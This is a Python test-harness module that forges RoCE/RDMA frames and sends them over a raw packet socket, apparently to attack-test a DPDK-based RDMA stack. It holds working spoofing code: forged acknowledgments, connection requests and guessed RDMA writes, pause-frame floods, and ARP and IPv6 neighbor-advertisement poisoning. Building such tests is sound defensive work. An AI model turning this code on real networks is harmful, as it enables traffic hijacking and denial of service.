"""Forged frames of the attack tests, and their transmission through a packet socket."""

import os
import pathlib
import random
import socket
import struct
import sys
import threading
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "live"))
from raw_sender import checksum, frame, packed  # noqa: E402 (found by the line above)

ATTACKER_MAC = bytes.fromhex("02000000000a")
BROADCAST = b"\xff" * 6
UD_SEND, RC_SEND, RC_WRITE, RC_ACK, CNP = 0x64, 0x04, 0x0a, 0x11, 0x81
MAD_KEY = 0x80010000


class Link:
    """Addresses of the victim and of its peer, whose IP addresses the forged frames have as destination and source."""

    def __init__(self, victim_mac, victim, peer, victim_qpn, peer_qpn):
        self.mac, self.victim, self.peer = victim_mac, victim, peer
        self.qpn, self.peer_qpn = victim_qpn, peer_qpn

    def packet(self, opcode, psn, qpn=None, **fields):
        return frame(self.mac, self.victim, opcode, self.qpn if qpn is None else qpn, psn, source=self.peer,
                     source_mac=ATTACKER_MAC, **fields)

    def mad(self, body):
        return self.packet(UD_SEND, 0, qpn=1, headers=struct.pack(">II", MAD_KEY, 1), payload=body.ljust(256, b"\0"))


def random_psn():
    return random.getrandbits(24)


def mad_header(management_class, class_version, method, attribute, transaction):
    return struct.pack(">BBBBHHQHHI", 1, management_class, class_version, method, 0, 0, transaction, attribute, 0, 0)


def capability_requests(link):
    """Capability Get of another incarnation, without capabilities."""
    body = struct.pack(">4sBBHIHBBIIQQ16s", b"CCX1", 1, 1, 0, 0, 0, 0, 0, 0, 1000, random.getrandbits(63) | 1, 0, bytes(16))
    return link.mad(mad_header(0x3a, 1, 1, 0x0101, random.getrandbits(64)) + bytes(13) + b"Roc" + body)


def connection_request(link, qpn):
    """REQ to the port of the RDMA_PS_TCP 20000, from the queue pair `qpn` of the peer."""
    body = bytearray(232)
    struct.pack_into(">I", body, 0, random.getrandbits(32))
    struct.pack_into(">QQ", body, 8, 0x1064e20, random.getrandbits(64))
    body[32:35] = qpn.to_bytes(3, "big")
    body[35], body[39] = 1, 1
    body[43], body[47] = 20 << 3, 20 << 3 | 7
    body[44:47] = random_psn().to_bytes(3, "big")
    struct.pack_into(">H", body, 48, 0xffff)
    body[50], body[51] = 5 << 4 | 7, 15 << 4
    body[56:72], body[72:88] = gid(link.peer), gid(link.victim)
    body[93], body[95] = 64, 14 << 3
    body[140] = 0x40  # IP header of the CM private data: version 4.
    body[156:160], body[172:176] = packed(link.peer), packed(link.victim)
    return link.mad(mad_header(7, 2, 3, 0x10, random.getrandbits(64)) + bytes(body))


def gid(address):
    return packed(address) if ":" in address else bytes(10) + b"\xff\xff" + packed(address)


def connection_requests(link):
    return connection_request(link, random.getrandbits(24))


def stale_requests(link):
    """REQ from the queue pair of an existing connection, which would be stale."""
    return connection_request(link, link.peer_qpn)


def acknowledgments(link):
    return link.packet(RC_ACK, random_psn(), headers=struct.pack(">I", 0x1f << 24 | random.getrandbits(24)))


def negative_acknowledgments(link):
    # Sequence error, invalid request, remote access error, remote operational error, RNR.
    syndrome = random.choice((0x60, 0x61, 0x62, 0x63, 0x2e))
    return link.packet(RC_ACK, random_psn(), headers=struct.pack(">I", syndrome << 24 | random.getrandbits(24)))


def cnps(link):
    return link.packet(CNP, 0, payload=bytes(16))


def pauses(_link):
    return (bytes.fromhex("0180c2000001") + ATTACKER_MAC + struct.pack(">HHH8H", 0x8808, 0x0101, 0xff, *[0xffff] * 8)).ljust(60, b"\0")


def arp(link, operation, target_mac, target):
    """ARP message that binds the peer's address to the attacker's MAC address."""
    destination = link.mac if operation == 2 else BROADCAST
    return (destination + ATTACKER_MAC + struct.pack(">HHHBBH6s4s6s4s", 0x0806, 1, 0x0800, 6, 4, operation, ATTACKER_MAC,
                                                     packed(link.peer), target_mac, packed(target))).ljust(60, b"\0")


def arp_messages(link):
    return random.choice((lambda: arp(link, 2, link.mac, link.victim), lambda: arp(link, 1, bytes(6), link.peer),
                          lambda: arp(link, 1, bytes(6), link.victim)))()


def advertisements(link):
    """Neighbor advertisement that binds the peer's address to the attacker's MAC address."""
    flags = random.choice((0x20000000, 0x60000000, 0x40000000))
    message = struct.pack(">BBHI16sBB6s", 136, 0, 0, flags, packed(link.peer), 2, 1, ATTACKER_MAC)
    pseudo = packed(link.peer) + packed(link.victim) + struct.pack(">II", len(message), 58)
    message = message[:2] + struct.pack(">H", checksum(pseudo + message)) + message[4:]
    ip = struct.pack(">IHBB16s16s", 6 << 28, len(message), 58, 255, packed(link.peer), packed(link.victim))
    return link.mac + ATTACKER_MAC + struct.pack(">H", 0x86dd) + ip + message


def guessed_writes(link):
    return link.packet(RC_WRITE, random_psn(), headers=struct.pack(">QII", random.getrandbits(47), random.getrandbits(32), 64),
                       payload=bytes(64), ack=True)


def guessed_sends(link):
    return link.packet(RC_SEND, random_psn(), payload=bytes(64), ack=True)


class Attacker(threading.Thread):
    """Sends forged frames to an interface at a constant rate until it is stopped. The frames are made in advance, so
    that the sender needs little time. `realtime`: with real-time priority, if permitted; for attacks that must not have
    gaps."""

    DIFFERENT = 2048

    def __init__(self, interface, make, rate, realtime=False):
        super().__init__(daemon=True)
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)  # Receives nothing.
        self.socket.bind((interface, 0))
        self.frames = [make() for _ in range(self.DIFFERENT)]
        self.rate, self.realtime, self.sent, self.refused = rate, realtime, 0, 0
        self.began = self.took = 0.0
        self.ended = threading.Event()

    def run(self):
        if self.realtime:
            try:
                os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))  # Of this thread.
            except OSError:
                self.realtime = False
        self.began = time.monotonic()
        while not self.ended.is_set():
            due = int((time.monotonic() - self.began) * self.rate)
            while self.sent + self.refused < due:
                try:
                    self.socket.send(self.frames[self.sent % self.DIFFERENT])
                    self.sent += 1
                except OSError:  # The queue of the interface is full.
                    self.refused += 1
            time.sleep(0.001)
        self.took = time.monotonic() - self.began

    def stop(self):
        """May be called several times."""
        self.ended.set()
        self.join()
        self.socket.close()


class TelemetrySocket:
    """Queries DPDK's telemetry socket of a process."""

    def __init__(self, runtime_directory, pid):
        self.path = None
        folder = pathlib.Path(runtime_directory) / "dpdk"
        for path in folder.glob(f"roci-{pid}-*/dpdk_telemetry.v2"):
            self.path = path
        if self.path is None:
            raise FileNotFoundError(f"no telemetry socket of process {pid} below {folder}: {os.listdir(folder)}")
        self.socket = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        self.socket.settimeout(10)
        self.socket.connect(str(self.path))
        self.socket.recv(1024)

    def ask(self, command):
        import json
        self.socket.send(command.encode())
        return json.loads(self.socket.recv(1 << 20))[command.split(",")[0]]

    def close(self):
        self.socket.close()
